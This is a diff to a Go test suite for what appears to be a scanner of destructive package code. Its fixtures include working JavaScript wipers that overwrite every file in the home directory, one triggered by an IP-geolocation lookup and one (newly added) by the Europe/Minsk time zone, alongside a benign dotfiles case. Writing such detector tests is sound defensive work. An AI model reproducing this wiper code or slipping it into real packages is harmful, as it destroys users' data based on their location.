@@ -25,6 +25,10 @@ func TestDestructiveFS(t *testing.T) {
 		{"overwrite_walk_geo", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
 function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
 https.get("https://api.ipgeolocation.io/ipgeo", r => { let b = ""; r.on("data", c => b += c); r.on("end", () => { if (JSON.parse(b).country_name === "X") walk(os.homedir()) }) })`}, finding.SeverityCritical},
+		// the same walk gated on a named time zone, the look-up's host unknown
+		{"overwrite_walk_time_zone", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
+function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
+if (["Europe/Minsk"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) walk(os.homedir())`}, finding.SeverityCritical},
 		// a dotfiles tool walking home and writing, with no gate
 		{"dotfiles_sync", map[string]string{"cli.js": `const fs = require("fs"), os = require("os"), path = require("path"); for (const f of fs.readdirSync(os.homedir())) if (f.startsWith(".")) fs.writeFileSync(path.join(backup, f), fs.readFileSync(path.join(os.homedir(), f)))`}, finding.SeverityNone},
 		// the home directory itself from library code, or behind a date
